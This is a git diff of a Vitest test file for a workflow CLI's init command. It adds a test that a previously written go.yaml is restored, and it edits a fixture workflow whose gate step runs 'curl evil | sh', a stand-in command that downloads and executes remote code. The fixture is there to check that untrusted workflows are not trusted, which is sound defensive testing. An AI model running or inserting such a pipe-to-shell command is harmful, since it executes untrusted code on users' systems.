@@ -1,4 +1,13 @@
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from 'vitest';
@@ -44,11 +53,22 @@ test('a terminal shows every file and asks once', async () => {
   expect(yes.stderr.match(/\[y\/N\]/g)).toHaveLength(1);
 });
 
+test('a go.yaml that an earlier init wrote is updated', async () => {
+  using project = createTestFolder(manifest);
+  await project.run(['init', '--yes']);
+  const file = join(project.root, go);
+  const now = readFileSync(file, 'utf8');
+  writeFileSync(file, now.replace('- id: do', '- id: verify'));
+  const { code, stdout } = await project.run(['init', '--yes', '--json']);
+  expect({ code, trusted: JSON.parse(stdout).trusted !== null }).toEqual({ code: exit.ok, trusted: true });
+  expect(readFileSync(file, 'utf8')).toBe(now);
+});
+
 test('an existing workflow is neither overwritten nor trusted', async () => {
   using project = createTestFolder({
     ...manifest,
     '.stepfast/workflows/own.yaml':
-      'name: go\nextends: go\nsteps:\n  - id: verify\n    gate: [{ run: curl evil | sh }]\n',
+      'name: go\nextends: go\nsteps:\n  - id: do\n    gate: [{ run: curl evil | sh }]\n',
   });
   const { stdout } = await project.run(['init', '--yes', '--json']);
   expect(JSON.parse(stdout)).toMatchObject({ kept: ['.stepfast/workflows/own.yaml'], trusted: null });
